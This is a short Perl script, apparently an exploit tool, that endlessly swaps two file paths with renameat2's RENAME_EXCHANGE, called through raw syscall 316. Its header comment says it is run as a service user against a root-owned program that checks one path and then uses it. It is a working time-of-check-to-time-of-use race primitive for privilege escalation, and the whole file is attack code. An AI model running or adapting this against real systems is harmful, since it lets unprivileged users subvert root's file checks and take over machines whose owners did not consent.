#!/usr/bin/perl
# racer.pl FIRST SECOND: exchanges what the two names stand for, as fast as it can, until it is ended. As the service
# user, against a program of root's that looks at FIRST and then uses it. renameat2(2), RENAME_EXCHANGE.
use strict;
use warnings;

my ( $first, $second ) = @ARGV;
my ( $here, $exchange ) = ( -100, 2 );
while (1) {
    syscall( 316, $here, $first, $here, $second, $exchange ) == 0 or die "$first, $second: $!\n";
}
